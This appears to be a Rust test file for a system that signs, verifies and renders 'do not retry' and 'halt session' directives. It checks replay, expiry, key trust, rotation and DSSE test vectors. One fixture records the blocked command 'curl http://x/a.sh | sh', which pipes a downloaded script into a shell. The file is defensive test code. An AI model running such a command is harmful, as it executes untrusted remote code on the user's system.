//! Directive round trips across the stage: signer → envelope → verifier → renderer, and the
//! published DSSE vectors.

use super::envelope::{pae, Envelope, OpeningKey};
use super::keys::BrokerKey;
use super::payload::{Directive, DirectiveType, EventFacts, Retry, ScopeInfo};
use super::render::notice;
use super::signer::DirectiveSigner;
use super::trust::TrustStore;
use super::verify::{Rejection, ReplayState, Verifier};
use crate::block::ScopeKind;
use uuid::Uuid;

const SESSION: &str = "0190e5c2-0000-7000-8000-000000000001";
const NOW: i64 = 1_800_000_000;

fn broker_key() -> (tempfile::TempDir, BrokerKey) {
    let dir = tempfile::tempdir().unwrap();
    let (key, _) = BrokerKey::load_or_create(dir.path()).unwrap();
    (dir, key)
}

fn signer() -> (tempfile::TempDir, DirectiveSigner) {
    let (dir, key) = broker_key();
    (dir, DirectiveSigner::new(key, None, "haltwire@test".into()))
}

fn directive(kind: DirectiveType) -> Directive {
    Directive {
        kind,
        block_id: Uuid::from_u128(1),
        event_id: Some(Uuid::from_u128(2)),
        scope: ScopeInfo { kind: ScopeKind::Similar, paths: vec![], hosts: vec![], executables: vec![] },
        retry: Retry::Never,
        note: Some("Downloads piped to a shell are forbidden here.".into()),
        data: EventFacts { command: EventFacts::fact(Some("curl http://x/a.sh | sh")), ..Default::default() },
    }
}

fn raw(signer: &DirectiveSigner, audience: &str, jti: &str, seq: u64, now: i64) -> Vec<u8> {
    signer.sign(audience, jti, seq, &directive(DirectiveType::DoNotRetry), now).to_json().into_bytes()
}

#[test]
fn a_signed_directive_verifies_once_and_renders() {
    let (_dir, signer) = signer();
    let verifier = Verifier::new(signer.trust_store());
    let mut replay = ReplayState::default();
    let bytes = raw(&signer, SESSION, "j1", 1, NOW);
    let verified = verifier.verify(&bytes, SESSION, NOW + 5, &mut replay).unwrap();
    assert_eq!(verified.signed_by, vec![signer.kid().to_string()]);
    let text = notice(&verified);
    assert!(text.contains("Do not retry it"));
    assert!(text.contains("Downloads piped to a shell are forbidden here."));
    assert_eq!(verifier.verify(&bytes, SESSION, NOW + 6, &mut replay), Err(Rejection::Replayed));
}

#[test]
fn mis_addressed_expired_early_and_out_of_order_directives_are_rejected() {
    let (_dir, signer) = signer();
    let verifier = Verifier::new(signer.trust_store());
    let mut replay = ReplayState::default();
    let other = "0190e5c2-0000-7000-8000-000000000002";
    assert_eq!(
        verifier.verify(&raw(&signer, other, "a", 1, NOW), SESSION, NOW, &mut replay),
        Err(Rejection::WrongAudience)
    );
    assert_eq!(
        verifier.verify(&raw(&signer, SESSION, "b", 1, NOW), SESSION, NOW + 300 + 31, &mut replay),
        Err(Rejection::Expired)
    );
    assert_eq!(
        verifier.verify(&raw(&signer, SESSION, "c", 1, NOW + 60), SESSION, NOW, &mut replay),
        Err(Rejection::NotYetValid)
    );
    verifier.verify(&raw(&signer, SESSION, "d", 5, NOW), SESSION, NOW, &mut replay).unwrap();
    assert_eq!(
        verifier.verify(&raw(&signer, SESSION, "e", 4, NOW), SESSION, NOW, &mut replay),
        Err(Rejection::OutOfOrder)
    );
    assert_eq!(replay.last_seq, 5, "rejections leave the replay state alone");
}

#[test]
fn a_key_outside_the_trust_store_cannot_sign_directives() {
    // Stands for a webhook-tier or attacker key (R24): only the broker's published keys count.
    let (_dir, genuine) = signer();
    let (_dir2, impostor) = signer();
    let verifier = Verifier::new(genuine.trust_store());
    let result =
        verifier.verify(&raw(&impostor, SESSION, "x", 1, NOW), SESSION, NOW, &mut ReplayState::default());
    assert_eq!(result.unwrap_err().code(), "bad_signature");
}

#[test]
fn a_lifetime_longer_than_five_minutes_is_rejected_even_when_signed() {
    let (dir, key) = broker_key();
    let signer = DirectiveSigner::new(BrokerKey::load(dir.path()).unwrap(), None, "haltwire@test".into());
    let envelope = signer.sign(SESSION, "j", 1, &directive(DirectiveType::HaltSession), NOW);
    let body = base64::Engine::decode(&base64::engine::general_purpose::STANDARD, &envelope.payload).unwrap();
    let mut payload: serde_json::Value = serde_json::from_slice(&body).unwrap();
    payload["exp"] = serde_json::json!(NOW + 3600);
    // Re-signed with the genuine key, so only the lifetime check can refuse it.
    let sign = |m: &[u8]| key.sign(m);
    let resealed = Envelope::seal(
        super::envelope::PAYLOAD_TYPE,
        &serde_json::to_vec(&payload).unwrap(),
        &[("k", &sign)],
    );
    let verifier = Verifier::new(signer.trust_store());
    assert_eq!(
        verifier.verify(resealed.to_json().as_bytes(), SESSION, NOW, &mut ReplayState::default()),
        Err(Rejection::LifetimeTooLong)
    );
}

#[test]
fn during_a_rotation_overlap_both_keys_sign_and_either_alone_verifies() {
    let (dir, old) = broker_key();
    BrokerKey::rotate(dir.path(), NOW + 600).unwrap();
    let (signer, created) = DirectiveSigner::load_or_create(dir.path(), NOW).unwrap();
    assert!(!created);
    let envelope = signer.sign(SESSION, "j", 1, &directive(DirectiveType::DoNotRetry), NOW);
    assert_eq!(envelope.signatures.len(), 2);
    let old_only = TrustStore::from_keys(&[(old.verifying_key(), None, None)]);
    let bytes = envelope.to_json().into_bytes();
    Verifier::new(old_only).verify(&bytes, SESSION, NOW, &mut ReplayState::default()).unwrap();
    let published = TrustStore::load(dir.path()).unwrap();
    assert_eq!(published.kids().len(), 2);
    assert_eq!(published.keys_at(NOW + 600).len(), 1, "the old key stops at the end of the overlap");
    let after = DirectiveSigner::load_or_create(dir.path(), NOW + 601).unwrap().0;
    assert_eq!(
        after.sign(SESSION, "k", 2, &directive(DirectiveType::Cleared), NOW + 601).signatures.len(),
        1
    );
}

#[test]
fn published_dsse_vectors_give_the_expected_verdicts() {
    let text = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/data/dsse/vectors.json"))
        .unwrap();
    let doc: serde_json::Value = serde_json::from_str(&text).unwrap();
    let key = |name: &str| {
        let hex = doc["keys"][name]["public"].as_str().unwrap();
        let bytes: Vec<u8> =
            (0..32).map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap()).collect();
        OpeningKey::new(name, &bytes.try_into().unwrap()).unwrap()
    };
    let vectors = doc["vectors"].as_array().unwrap();
    assert_eq!(vectors.len(), 9);
    for v in vectors {
        let id = v["id"].as_str().unwrap();
        let envelope: Envelope = serde_json::from_value(v["envelope"].clone()).unwrap();
        let keys: Vec<OpeningKey> =
            v["trustedKeys"].as_array().unwrap().iter().map(|k| key(k.as_str().unwrap())).collect();
        let types: Vec<&str> =
            v["supportedPayloadTypes"].as_array().unwrap().iter().map(|t| t.as_str().unwrap()).collect();
        let threshold = v["threshold"].as_u64().unwrap() as usize;
        let result = envelope.open(&types, &keys, threshold);
        assert_eq!(result.is_ok(), v["expect"] == "accept", "vector {id}: {result:?}");
        if let (Ok(opened), Some(hex)) = (&result, v["pae"].as_str()) {
            let expected: Vec<u8> =
                (0..hex.len() / 2).map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).unwrap()).collect();
            assert_eq!(pae(&envelope.payload_type, &opened.body), expected, "vector {id}: PAE");
        }
    }
}
